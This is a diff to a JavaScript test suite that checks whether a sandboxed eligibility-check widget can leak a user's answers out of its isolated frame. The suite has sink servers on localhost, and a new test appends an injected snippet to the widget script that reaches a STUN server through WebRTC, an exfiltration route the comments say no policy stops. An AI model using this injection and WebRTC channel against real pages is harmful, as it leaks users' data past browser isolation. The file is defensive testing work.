@@ -1,10 +1,12 @@
 // The frame: the plain snippet, its helper, and the isolated element; and a widget that tries to give the answers away.
 
+import { createSocket } from "node:dgram";
 import { createServer as createSocketServer } from "node:net";
 import { readFileSync } from "node:fs";
 import { join } from "node:path";
+import { test } from "node:test";
 import { dist } from "./browser.mjs";
-import { check, closeLater, ground, host, hostile, html, quiet, release, settled, silent, walk, widget } from "./hosts/ground.mjs";
+import { check, closeLater, ground, host, hostile, html, look, quiet, release, settled, silent, walk, widget } from "./hosts/ground.mjs";
 
 ground();
 
@@ -107,7 +109,7 @@ hostile("an isolated element: the page cannot read the answers", /cannot be read
   await quiet(seen, from, own);
   await own.getByRole("button", { name: /check your answers/i }).first().click();
   check.match(await own.locator(".esc").innerText(), /\b96\b/, "the answers to begin with have come through");
-  await own.getByRole("button", { name: /results/i }).first().click();
+  await own.getByRole("button", { name: "Show the results", exact: true }).click();
   await own.getByRole("button", { name: /127\.0\.0\.1/ }).click();
   await seen.page.waitForFunction(() => globalThis.heard.some(({ name }) => name === "share"));
   const share = await seen.page.evaluate(() => globalThis.heard.find(({ name }) => name === "share"));
@@ -144,11 +146,14 @@ hostile("a pack of the page's own in an isolated element", /the element is error
 async function sink() {
   const log = [];
   const waiting = [];
+  const note = (line) => {
+    log.push(line);
+    for (const look of waiting) look();
+  };
   const server = createSocketServer((socket) => {
-    log.push("connection");
+    note("connection");
     socket.on("data", (bytes) => {
-      log.push(bytes.toString("latin1").split("\r\n", 1)[0]);
-      for (const look of waiting) look();
+      note(bytes.toString("latin1").split("\r\n", 1)[0]);
       socket.end("HTTP/1.1 204 No Content\r\nConnection: close\r\n\r\n");
     });
     socket.on("error", () => {});
@@ -219,15 +224,34 @@ hostile("a widget that tries every way out, isolated", /nothing reached the sink
     while (!tries()) await seen.page.waitForEvent("console");
     check.equal(page.asked.filter((line) => !line.includes("favicon")).length, 1, "the page around was not sent away");
   }
-  // The page around asks the sink twice, one after the other: what was on its way before has come by then, and the sink is seen to work.
-  const control = async (name) => {
-    const come = trap.until(new RegExp(`/${name} `));
-    await seen.page.evaluate((url) => void fetch(url, { mode: "no-cors" }), `http://${trap.address}/${name}`);
+  // The page around asks another sink twice, one after the other: what was on its way before has come by then. The first one works, too.
+  const other = await sink();
+  const ask = async ({ address, until }, name) => {
+    const come = until(new RegExp(`/${name} `));
+    await seen.page.evaluate((url) => void fetch(url, { mode: "no-cors" }), `http://${address}/${name}`);
     await come;
   };
   if (twin) await trap.until(/answers=96/);
-  else for (const name of ["control-1", "control-2"]) await control(name);
-  const leaked = trap.log.filter((line) => !/control-\d|^connection$/.test(line));
-  const connections = trap.log.filter((line) => line === "connection").length;
-  check.deepEqual([leaked, connections <= 2], [[], true], "nothing reached the sink");
+  else for (const name of ["control-1", "control-2"]) await ask(other, name);
+  check.deepEqual(trap.log, [], "nothing reached the sink, not even a connection");
+  await ask(trap, "control-3");
+});
+
+// No defence, so no twin: this is what docs/partners/security.md admits. Should a browser begin to stop it, that paper has to say so.
+test("what no policy stops: a tampered widget reaches a STUN server from inside the frame", { timeout: 60_000 }, async () => {
+  const stun = createSocket("udp4");
+  await new Promise((resolve) => stun.bind(0, "127.0.0.1", resolve));
+  closeLater({ close: () => stun.close() });
+  const heard = new Promise((resolve) => stun.once("message", resolve));
+  const call = (url) => {
+    const peer = new RTCPeerConnection({ iceServers: [{ urls: url }] });
+    peer.createDataChannel("leak");
+    peer.createOffer().then((offer) => peer.setLocalDescription(offer));
+  };
+  const evil = `;addEventListener("esc-ready", () => (${call})("stun:127.0.0.1:${stun.address().port}"));`;
+  const from = await release((url, bytes) => (/eligibility-check\.js$/.test(url) ? `${bytes}${evil}` : undefined));
+  const seen = await look(`${from.address}frame.html#pack=eu-sme&lang=en`);
+  const request = await heard;
+  check.equal(request.readUInt16BE(0), 1, "a STUN binding request");
+  await seen.close();
 });
